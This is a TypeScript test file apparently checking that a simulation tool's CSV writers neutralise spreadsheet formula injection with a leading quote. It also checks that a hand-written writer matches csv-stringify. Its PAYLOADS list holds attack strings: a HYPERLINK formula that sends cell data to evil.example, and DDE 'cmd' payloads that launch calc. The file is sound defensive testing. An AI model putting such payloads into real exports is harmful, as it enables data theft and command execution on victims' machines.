// CSV formula injection: a text cell a spreadsheet would run as a formula gets a leading single
// quote (OWASP's rule); numbers and plain-number text are left alone; the hand-written
// changes.csv writer and csv-stringify (every other table) make the same bytes.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { TimeBase } from '../../src/engine/time.js';
import { runReplication } from '../../src/model/replication.js';
import { toCsv } from '../../src/output/write-run.js';
import { CSV_STRINGIFY_OPTIONS, neutraliseFormula } from '../../src/run/csv.js';
import { CHANGE_COLUMNS, changeRows, changesCsv, type Row } from '../../src/run/rows.js';
import { csvRows } from '../../src/run/csv-rows.js';
import { loadScenario } from '../../src/node/scenario-files.js';
import type { Scenario } from '../../src/scenario/types.js';

/** The payloads of issue 13 and OWASP's list of formula starts. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('neutraliseFormula', () => {
  it('puts a single quote before text that starts with = + - @ tab or carriage return', () => {
    expect(PAYLOADS.map(neutraliseFormula)).toEqual(PAYLOADS.map((p) => `'${p}`));
  });

  it('leaves other text, plain-number text and empty cells as they are', () => {
    for (const t of ['small', 'GBP', "'=already quoted", ' =1+1', '', '2027-01-04T09:00', '-2.5', '+3', '-1e-3', '.5']) {
      expect(neutraliseFormula(t), t).toBe(t);
    }
    expect(neutraliseFormula('-')).toBe("'-");
    expect(neutraliseFormula('-2.5.1')).toBe("'-2.5.1");
    expect(neutraliseFormula('1+1')).toBe('1+1');
  });

  it('csv-stringify tables (toCsv, csvRows) neutralise text but not numbers or headers', () => {
    const rows = [{ name: '=1+1', amount: -2.5, currency: '@SUM(A1)' }];
    expect(toCsv(rows)).toBe("name,amount,currency\n'=1+1,-2.5,'@SUM(A1)\n");
    expect(csvRows(rows, ['name', 'amount', 'currency'])).toBe("'=1+1,-2.5,'@SUM(A1)\n");
  });
});

describe('the hand-written table writer (toCsv, csvRows): the bytes of csv-stringify', () => {
  const reference = (rows: readonly Row[], columns: readonly string[], header: boolean): string =>
    stringify(rows as Row[], { ...CSV_STRINGIFY_OPTIONS, header, columns: columns as string[] });
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 10 }),
    fc.constantFrom('=1+1', '-2.5', '-x', '@SUM(A1)', '\t=x', '\r=x', 'a,"b"\r\nc', '🚀 "launch"', 'ünïcödé', '', '\ud800'),
  );
  const cell = fc.oneof(text, fc.double(), fc.integer(), fc.constantFrom(undefined, null, -0));
  const column = fc.oneof(fc.constantFrom('variant', 'replication', 'a,b', 'say "x"', 'line\nbreak', '=sum', 'a.b', 'a[0]', ''), fc.string({ maxLength: 6 }));

  it('any rows of text, numbers and empty cells, any column names, with and without a header', () => {
    fc.assert(
      fc.property(fc.uniqueArray(column, { minLength: 1, maxLength: 6 }), fc.array(fc.array(cell, { minLength: 6, maxLength: 6 }), { maxLength: 8 }), fc.boolean(), (columns, cells, header) => {
        const rows = cells.map((r) => Object.fromEntries(columns.map((c, i) => [c, r[i]]).filter(([, v]) => v !== undefined)) as Row);
        expect(csvRows(rows, columns, header)).toBe(rows.length === 0 && !header ? '' : reference(rows, columns, header));
        expect(toCsv(rows, columns)).toBe(reference(rows, columns, true));
        if (rows.length > 0 && Object.keys(rows[0]!).length > 0) expect(toCsv(rows)).toBe(reference(rows, Object.keys(rows[0]!), true));
      }),
      { seed: 1413, numRuns: 3000 },
    );
  });

  it('cells of other types and column names read as paths are left to csv-stringify', () => {
    const rows = [{ a: true, b: false, 'c.d': 1, c: { d: 2 } }] as unknown as Row[];
    for (const columns of [['a', 'b'], ['c.d', 'a'], ['c[0]']]) expect(toCsv(rows, columns)).toBe(reference(rows, columns, true));
    expect(toCsv(rows, ['a', 'b'])).toBe('a,b\n1,\n');
    expect(toCsv(rows, ['c.d'])).toBe('c.d\n1\n'); // the key itself when the row has it
    expect(toCsv([{ c: { d: 2 } }] as unknown as Row[], ['c.d'])).toBe('c.d\n2\n'); // else the path
  });

  it('a table without rows is its header line; no columns, no text', () => {
    expect(toCsv([], ['variant', 'replication', 'day'])).toBe('variant,replication,day\n');
    expect(toCsv([])).toBe('');
    expect(csvRows([], ['a', 'b'])).toBe('');
  });
});

describe('changes.csv with formula class names', () => {
  it('the direct writer neutralises class names and still matches csv-stringify byte for byte', () => {
    const base = loadScenario('scenarios/ops-run-it.yaml');
    const s: Scenario = {
      ...base,
      horizon: 20 * 10080,
      classes: base.classes.map((c, i) => ({ ...c, name: PAYLOADS[i === 0 ? 0 : 4]! })),
    };
    const out = runReplication(s, 'normal', 1);
    const tb = new TimeBase(s.start);
    const direct = changesCsv(out.changes, tb);
    expect(direct).toBe(csvRows(changeRows(out.changes, tb), CHANGE_COLUMNS));
    const lines = direct.split('\n');
    expect(lines.some((l) => l.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`))).toBe(true);
    expect(lines.some((l) => l.includes(`,'\t=1+1,`))).toBe(true);
    expect(direct).not.toMatch(/,[=+@]|,-[^0-9]/);
  });
});
